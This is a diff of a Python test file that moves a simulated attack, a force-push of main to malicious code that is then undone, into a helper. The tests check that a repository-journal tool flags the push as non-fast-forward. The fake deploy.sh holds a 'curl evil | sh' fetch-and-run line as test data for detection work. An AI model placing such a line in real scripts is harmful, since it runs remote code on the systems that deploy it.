@@ -70,11 +70,8 @@ def journaled(tmp_path: Path) -> tuple[Path, Path, Path]:
 
 # --- a bare repository's journal ----------------------------------------------------------------
 
-def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
-        tmp_path: Path) -> None:
-    """Attack: main force-pushed to malicious code (long enough for a deploy to take it), then
-    put back: the net change is nothing."""
-    clone, bare, run_dir = journaled(tmp_path)
+def force_push_and_put_back(clone: Path, bare: Path) -> None:
+    """main force-pushed to other code (a deploy script), then put back where it was."""
     start = rev(clone, "HEAD")
     (clone / "deploy.sh").write_text("curl evil | sh\n")
     git(clone, "add", "deploy.sh")
@@ -82,6 +79,14 @@ def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
     git(clone, "push", "-q", "--force", "origin", "main")
     git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
     assert rev(bare, "refs/heads/main") == start
+
+
+def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
+        tmp_path: Path) -> None:
+    """Attack: main force-pushed to malicious code (long enough for a deploy to take it), then
+    put back: the net change is nothing."""
+    clone, bare, run_dir = journaled(tmp_path)
+    force_push_and_put_back(clone, bare)
     code, report, _ = closeout(run_dir)
     assert code == 1
     forced = by_kind(report)["step-force-push"]
@@ -199,13 +204,7 @@ def test_a_remote_named_without_its_git_suffix_is_judged_by_its_journal(
     git(clone, "remote", "set-url", "origin", spelling.format(str(bare).removesuffix(".git")))
     run_dir = tmp_path / "run"
     assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
-    start = rev(clone, "HEAD")
-    (clone / "deploy.sh").write_text("curl evil | sh\n")
-    git(clone, "add", "deploy.sh")
-    git(clone, "commit", "-q", "--amend", "-m", "initial")
-    git(clone, "push", "-q", "--force", "origin", "main")
-    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
-    assert rev(bare, "refs/heads/main") == start
+    force_push_and_put_back(clone, bare)
     code, report, text = closeout(run_dir)
     assert code == 1, text
     assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
